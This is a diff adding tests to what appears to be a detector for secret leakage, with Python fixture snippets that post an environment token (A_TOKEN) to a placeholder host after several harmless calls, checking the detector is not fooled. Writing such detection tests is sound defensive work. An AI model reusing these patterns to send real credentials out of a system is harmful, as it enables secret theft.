@@ -28,3 +28,22 @@ test('a secret is told from a text without one', () => {
     'def send(value):\n    requests.post("https://a.test", data=value)\nsend("a")\nsend(os.environ["A_TOKEN"])\nsend("a")\n';
   expect(requests(text).join()).toContain('A_TOKEN');
 });
+
+test.each([
+  [
+    'a global',
+    'held = ""\ndef send():\n    requests.post("https://a.test", data=held)\n',
+    'held = ',
+    'send()',
+  ],
+  [
+    'a record',
+    'box = {"held": ""}\ndef send():\n    requests.post("https://a.test", data=box["held"])\n',
+    'box["held"] = ',
+    'send()',
+  ],
+])('harmless calls do not hide a later one with a secret in %s', (_, defined, assigned, call) => {
+  const harmless = Array.from({ length: 4 }, (__, index) => `${assigned}"text ${index}"\n${call}\n`).join('');
+  const text = `${defined}${harmless}${assigned}os.environ["A_TOKEN"]\n${call}\n`;
+  expect(requests(text).join()).toContain('A_TOKEN');
+});
